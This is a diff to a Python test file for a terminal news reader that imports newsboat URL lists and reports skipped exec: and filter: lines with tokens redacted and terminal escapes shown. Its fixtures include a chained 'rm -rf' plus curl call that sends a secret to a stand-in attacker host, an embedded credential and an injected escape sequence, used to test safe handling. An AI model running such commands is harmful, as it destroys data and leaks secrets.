@@ -91,10 +91,29 @@ def test_the_lines_that_are_no_feed_are_named_by_program_and_addresses_without_p
 
 def test_the_web_addresses_of_a_command_are_named_without_their_query_which_often_holds_a_token(cli, config, tmp_path):
     urls = b'"exec:rm -rf /tmp/x; curl http://evil.example/?t=SECRET"\n"filter:schoon:https://b.example/f?key=8f3a#SECRET2"\n'
-    assert sources_from_urls_file(urls) == ([], ["exec:rm http://evil.example/?…", "filter:schoon:https://b.example/f?…"])
+    assert sources_from_urls_file(urls) == ([], ["exec:rm ; curl http://evil.example/?…", "filter:schoon:https://b.example/f?…"])
     (tmp_path / "urls").write_bytes(urls)
     result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config)})
     assert result.returncode == 0 and "SECRET" not in result.stderr and "8f3a" not in result.stderr, result.stderr
+
+
+def test_a_pipeline_is_named_by_every_program_in_it_with_the_addresses_each_reads(cli, config, tmp_path):
+    """`exec:curl … | xsltproc …` was named `exec:curl` and its address: what makes the feed of what curl fetched
+    went unsaid, and a `cmd1; cmd2` seemed to run cmd1 alone. Said on the terminal with its escapes shown, not done."""
+    urls = (
+        b'"exec:curl -s -u anna:geheim https://a.example/f?t=8f3a | xsltproc ~/rss.xsl - 2>/dev/null && echo klaar"\n'
+        b'"exec:~/bin/\x1b[2Jfeed | TOKEN=8f3a tee /tmp/uit; cat </tmp/uit"\n'
+        b'"filter:~/bin/schoon.sh | iconv -f latin1:https://b.example/f"\n'
+    )
+    named = ["exec:curl https://a.example/f?… | xsltproc && echo", "exec:~/bin/\x1b[2Jfeed | tee ; cat", "filter:~/bin/schoon.sh | iconv:https://b.example/f"]
+    assert sources_from_urls_file(urls) == ([], named)
+    (tmp_path / "urls").write_bytes(urls)
+    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config)})
+    assert result.returncode == 0
+    assert result.stderr.splitlines()[-1] == (
+        "nieuws-tui: left out 3 lines that are no feed (query:, exec:, filter:): "
+        "exec:curl https://a.example/f?… | xsltproc && echo, exec:~/bin/\\x1b[2Jfeed | tee ; cat, filter:~/bin/schoon.sh | iconv:https://b.example/f"
+    )
 
 
 def test_a_command_is_named_by_its_program_not_by_the_variables_set_before_it():
